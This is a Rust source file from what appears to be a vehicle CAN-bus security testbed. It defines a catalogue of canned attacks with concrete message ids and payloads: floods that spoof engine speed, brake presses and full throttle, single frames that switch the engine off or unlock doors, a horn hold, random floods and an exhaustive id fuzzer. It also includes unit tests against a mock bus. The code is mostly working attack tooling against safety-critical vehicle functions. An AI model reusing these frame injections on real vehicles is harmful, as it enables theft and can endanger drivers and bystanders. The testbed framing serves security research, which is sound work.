//! Canned attacks

use std::fmt;
use std::str::FromStr;
use std::time::Duration;

use rand::rngs::StdRng;
use rand::SeedableRng;
use serde::Serialize;
use testbed_can::CanTransport;
use testbed_core::CanFrame;

use crate::error::{AttackError, AttackResult};
use crate::pattern::{
    exhaustive_fuzz, first_byte_frame, fixed_burst, pulsed_burst, random_flood, single_shot,
};

const ENGINE_RPM_MSG: u32 = 0x43;
const BRAKE_OPERATION_MSG: u32 = 0x1A;
const ENGINE_START_MSG: u32 = 0x1B8;
const DOOR_LOCK_UNLOCK_MSG: u32 = 0x286;
const HORN_SWITCH_MSG: u32 = 0x98;
const ACCELERATION_OPERATION_MSG: u32 = 0x2F;

const FRAME_SPACING: Duration = Duration::from_millis(1);
const HORN_PAUSE: Duration = Duration::from_millis(200);

/// Attacks offered by the attack tool
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Attack {
    /// Spoof a maxed-out engine speed
    Rpm,
    /// Spoof a brake pedal press
    Brake,
    /// Switch the engine off
    EngineOff,
    /// Unlock the doors
    Unlock,
    /// Hold the horn
    Horn,
    /// Spoof the accelerator pedal
    GasPedal,
    /// Random ids and payloads
    Random,
    /// Every id × every first byte
    Fuzz,
    /// Open a capture/replay session instead of sending
    Sniff,
}

/// How an attack emits its frames
#[derive(Debug, Clone, PartialEq)]
pub enum AttackPlan {
    Burst {
        frame: CanFrame,
        count: usize,
        spacing: Duration,
    },
    Single(CanFrame),
    Pulsed {
        frame: CanFrame,
        groups: usize,
        per_group: usize,
        spacing: Duration,
        pause: Duration,
    },
    RandomFlood {
        count: usize,
        spacing: Duration,
    },
    Fuzz,
}

impl Attack {
    pub const ALL: [Attack; 9] = [
        Attack::Rpm,
        Attack::Brake,
        Attack::EngineOff,
        Attack::Unlock,
        Attack::Horn,
        Attack::GasPedal,
        Attack::Random,
        Attack::Fuzz,
        Attack::Sniff,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Attack::Rpm => "rpm",
            Attack::Brake => "brake",
            Attack::EngineOff => "engine-off",
            Attack::Unlock => "unlock",
            Attack::Horn => "horn",
            Attack::GasPedal => "gas-pedal",
            Attack::Random => "random",
            Attack::Fuzz => "fuzz",
            Attack::Sniff => "sniff",
        }
    }

    pub fn description(self) -> &'static str {
        match self {
            Attack::Rpm => "Flood ENGINE_RPM_MSG with a full-scale reading",
            Attack::Brake => "Flood BRAKE_OPERATION_MSG with a 100% brake press",
            Attack::EngineOff => "Send one ENGINE_START_MSG with engine off",
            Attack::Unlock => "Send one DOOR_LOCK_UNLOCK_MSG unlock command",
            Attack::Horn => "Hold HORN_SWITCH_MSG in five pulses",
            Attack::GasPedal => "Flood ACCELERATION_OPERATION_MSG with full throttle",
            Attack::Random => "5000 frames with random ids and first bytes",
            Attack::Fuzz => {
                "Every id 0..=0xFFF with every first byte 0..=0xFF, both ends included (4096 x 256 frames)"
            }
            Attack::Sniff => "Open the sniffing and replay tool",
        }
    }

    /// Frame plan, or `None` for [`Attack::Sniff`]
    pub fn plan(self) -> AttackResult<Option<AttackPlan>> {
        let plan = match self {
            Attack::Rpm => AttackPlan::Burst {
                frame: first_byte_frame(ENGINE_RPM_MSG, 0xFF)?,
                count: 3000,
                spacing: FRAME_SPACING,
            },
            Attack::Brake => AttackPlan::Burst {
                frame: CanFrame::new(BRAKE_OPERATION_MSG, &[0x00, 0x64, 0, 0, 0, 0, 0, 0])?,
                count: 3000,
                spacing: FRAME_SPACING,
            },
            Attack::EngineOff => AttackPlan::Single(first_byte_frame(ENGINE_START_MSG, 0x00)?),
            Attack::Unlock => AttackPlan::Single(first_byte_frame(DOOR_LOCK_UNLOCK_MSG, 0x02)?),
            Attack::Horn => AttackPlan::Pulsed {
                frame: first_byte_frame(HORN_SWITCH_MSG, 0x01)?,
                groups: 5,
                per_group: 50,
                spacing: FRAME_SPACING,
                pause: HORN_PAUSE,
            },
            Attack::GasPedal => AttackPlan::Burst {
                frame: first_byte_frame(ACCELERATION_OPERATION_MSG, 0x64)?,
                count: 100,
                spacing: FRAME_SPACING,
            },
            Attack::Random => AttackPlan::RandomFlood {
                count: 5000,
                spacing: FRAME_SPACING,
            },
            Attack::Fuzz => AttackPlan::Fuzz,
            Attack::Sniff => return Ok(None),
        };
        Ok(Some(plan))
    }
}

impl AttackPlan {
    /// Run the plan to completion; returns the number of frames sent
    pub async fn execute(&self, transport: &dyn CanTransport) -> AttackResult<usize> {
        match self {
            AttackPlan::Burst {
                frame,
                count,
                spacing,
            } => fixed_burst(transport, frame, *count, *spacing).await,
            AttackPlan::Single(frame) => single_shot(transport, frame).await,
            AttackPlan::Pulsed {
                frame,
                groups,
                per_group,
                spacing,
                pause,
            } => pulsed_burst(transport, frame, *groups, *per_group, *spacing, *pause).await,
            AttackPlan::RandomFlood { count, spacing } => {
                let mut rng = StdRng::from_entropy();
                random_flood(transport, *count, *spacing, &mut rng).await
            }
            AttackPlan::Fuzz => exhaustive_fuzz(transport).await,
        }
    }
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for Attack {
    type Err = AttackError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let wanted = s.trim().to_ascii_lowercase().replace('_', "-");
        Attack::ALL
            .into_iter()
            .find(|a| a.name() == wanted)
            .ok_or_else(|| AttackError::UnknownAttack(s.to_string()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;
    use testbed_can::{MockCanTransport, MockConfig};

    #[test]
    fn parses_names_loosely() {
        assert_eq!("engine_off".parse::<Attack>().unwrap(), Attack::EngineOff);
        assert_eq!("Gas-Pedal".parse::<Attack>().unwrap(), Attack::GasPedal);
        assert!("reverse-steering".parse::<Attack>().is_err());
    }

    #[test]
    fn rpm_plan_matches_catalogue() {
        let plan = Attack::Rpm.plan().unwrap().unwrap();
        let AttackPlan::Burst { frame, count, spacing } = plan else {
            panic!("rpm should be a burst");
        };
        assert_eq!(frame.id(), 0x43);
        assert_eq!(frame.data(), &[0xFF, 0, 0, 0, 0, 0, 0, 0]);
        assert_eq!(count, 3000);
        assert_eq!(spacing, Duration::from_millis(1));
    }

    #[test]
    fn fuzz_description_states_inclusive_ranges() {
        let text = Attack::Fuzz.description();
        assert!(text.contains("0..=0xFFF"), "{text}");
        assert!(text.contains("0..=0xFF,"), "{text}");
        assert!(text.contains("4096 x 256"), "{text}");
    }

    #[test]
    fn sniff_has_no_frame_plan() {
        assert_eq!(Attack::Sniff.plan().unwrap(), None);
    }

    #[tokio::test(start_paused = true)]
    async fn horn_sends_five_groups_of_fifty() {
        let bus = MockCanTransport::new(&MockConfig::default());
        let plan = Attack::Horn.plan().unwrap().unwrap();
        assert_eq!(plan.execute(&bus).await.unwrap(), 250);
        assert!(bus.sent_frames().iter().all(|f| f.id() == 0x98 && f.data()[0] == 1));
    }

    #[tokio::test]
    async fn single_shots_send_one_frame() {
        for (attack, id, first) in [(Attack::EngineOff, 0x1B8, 0x00), (Attack::Unlock, 0x286, 0x02)] {
            let bus = MockCanTransport::new(&MockConfig::default());
            let plan = attack.plan().unwrap().unwrap();
            assert_eq!(plan.execute(&bus).await.unwrap(), 1);
            let frames = bus.sent_frames();
            assert_eq!(frames[0].id(), id);
            assert_eq!(frames[0].data()[0], first);
        }
    }

    #[tokio::test(start_paused = true)]
    async fn gas_pedal_sends_one_hundred() {
        let bus = MockCanTransport::new(&MockConfig::default());
        let plan = Attack::GasPedal.plan().unwrap().unwrap();
        assert_eq!(plan.execute(&bus).await.unwrap(), 100);
        assert_eq!(bus.sent_frames()[0].data()[0], 0x64);
    }
}
